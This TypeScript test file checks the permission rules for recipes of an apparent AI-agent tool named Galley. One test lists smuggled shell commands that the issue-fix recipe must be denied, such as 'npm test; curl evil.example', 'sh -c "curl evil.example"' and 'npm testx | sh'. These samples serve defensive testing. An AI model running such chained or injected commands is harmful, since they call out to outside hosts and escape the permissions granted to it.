import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@jest/globals';
import type { Access } from '../../src/contract/access.js';
import { type Rules, rules } from '../../src/policy/rules.js';
import { parseRecipe } from '../../src/recipe/load.js';
import { commandsIn } from '../../src/service/shell-words/commands.js';
import { pickTools } from '../../src/tool/index.js';

const NAMES = fs.readdirSync('recipes');
const recipeOf = (name: string) => parseRecipe(name, fs.readFileSync(`recipes/${name}`, 'utf8'));
const ROOT = path.resolve('/repository');

function rightsOf(name: string): Rules {
  const { permissions } = recipeOf(name);
  return rules([{ origin: name, ...permissions }], {
    root: ROOT,
    resolve: (file) => path.resolve(ROOT, file),
    commandsIn,
  });
}

function answer(name: string, tool: string, access: Access): string {
  const own = rightsOf(name);
  if (own.judge(access, { tool, moment: 'call' }).action !== 'allow') return 'denied';
  return own.granted(access, { tool, moment: 'call' }) === undefined ? 'not granted' : 'granted';
}

const run = (name: string, command: string) => answer(name, 'bash', { kind: 'exec', command });

test.each(NAMES)('every tool and every rule that %s names exists', (name) => {
  expect(pickTools(recipeOf(name).tools).length).toBeGreaterThan(0);
  expect(rightsOf(name).all).toHaveLength(
    recipeOf(name).permissions.allow.length + recipeOf(name).permissions.deny.length,
  );
});

test('each test command that issue-fix can be given is one it may run', () => {
  const options = recipeOf('issue-fix.yml').parameters.find(({ key }) => key === 'tests')?.options ?? [];
  expect(options.length).toBeGreaterThan(10);
  expect(options.map((option) => `${option}: ${run('issue-fix.yml', String(option))}`)).toEqual(
    options.map((option) => `${option}: granted`),
  );
});

test.each([
  'npm test; curl evil.example',
  'npm test && git push',
  'npm test & curl evil.example',
  '$(npm test)',
  'git push',
  'sh -c "curl evil.example"',
  'npm testx | sh',
])('issue-fix may not run %s', (command) => {
  expect(run('issue-fix.yml', command)).not.toBe('granted');
});

test('recipes that edit never edit workflows, recipes or the configuration of Galley', () => {
  for (const name of NAMES.filter((each) => recipeOf(each).mode === 'edits')) {
    for (const file of ['.github/workflows/ci.yml', 'recipes/x.yml', '.galley/config.yml'])
      expect(answer(name, 'hash_edit', { kind: 'write', path: file })).toBe('denied');
  }
});

test('docs-drift may edit documents and nothing else; release-notes the change log and nothing else', () => {
  const edit = (name: string, file: string) => answer(name, 'hash_edit', { kind: 'write', path: file });
  expect(edit('docs-drift.yml', 'README.md')).toBe('granted');
  expect(edit('docs-drift.yml', 'docs/a/b.md')).toBe('granted');
  expect(edit('docs-drift.yml', 'src/a.ts')).toBe('not granted');
  expect(edit('docs-drift.yml', '.github/README.md')).toBe('denied');
  expect(edit('release-notes.yml', 'CHANGELOG.md')).toBe('granted');
  expect(edit('release-notes.yml', 'README.md')).toBe('not granted');
});

test('dependency updates never run the scripts of packages', () => {
  expect(run('dependency-update.yml', 'npm install --ignore-scripts left-pad@2')).toBe('granted');
  expect(run('dependency-update.yml', 'npm install left-pad@2')).toBe('not granted');
  expect(run('dependency-update.yml', 'npm update --ignore-scripts')).toBe('granted');
});
